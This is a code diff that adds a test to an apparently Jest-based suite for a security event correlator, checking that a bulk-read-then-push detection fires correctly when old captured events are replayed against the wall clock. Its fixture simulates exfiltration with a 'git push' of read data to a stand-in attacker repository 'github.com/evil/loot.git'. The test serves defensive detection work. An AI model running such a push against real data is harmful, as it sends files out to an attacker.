@@ -66,6 +66,30 @@ describe('clock trouble and disorder in the correlator', () => {
     }
   });
 
+  it('live: an old capture appended to a followed export has its push judged after settle + lateness', () => {
+    // A month behind the wall clock, one read a minute for 40 min, then a push: every event is a jump from the
+    // wall clock. The first 16 confirm the node's clock there; the rest must move it as they come, or the
+    // push waits for the clock to cover the last unconfirmed run's span (run --tetragon-file on a bundled
+    // scenario: its alert came 19 min late).
+    const wallMs = Date.now();
+    const s = new Scenario({ startMs: wallMs - 30 * 24 * 3_600_000 });
+    const c = s.container();
+    const sh = s.init(c);
+    s.readMany(sh, '/srv/export', 40, 4 * MiB, 60_000);
+    s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: sh });
+    const { correlator } = makeCorrelator();
+    correlator.advance(wallMs);
+    const atIngest = correlator.ingest(s.events);
+    const onTime = correlator.advance(wallMs + 60_000);
+    expect(atIngest).toEqual([]);
+    // As a scan judges it: the last 30 min of reads, 120 MiB.
+    expect(brief(onTime)).toEqual([
+      { rule: 'bulk-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
+    ]);
+    expect(onTime.map(shape)).toEqual(run(s.events).alerts.map(shape));
+    expect(correlator.flush()).toEqual([]);
+  });
+
   it('live: a push ahead of a wall clock that lags the events (the demo replay clock) is judged on its own time', () => {
     // The push and its reads are 30 min ahead of the wall clock the correlator is given: not a jump of its
     // clock (< 24 h), so judged at its own time with every read; judged on the clock as it was, it was judged
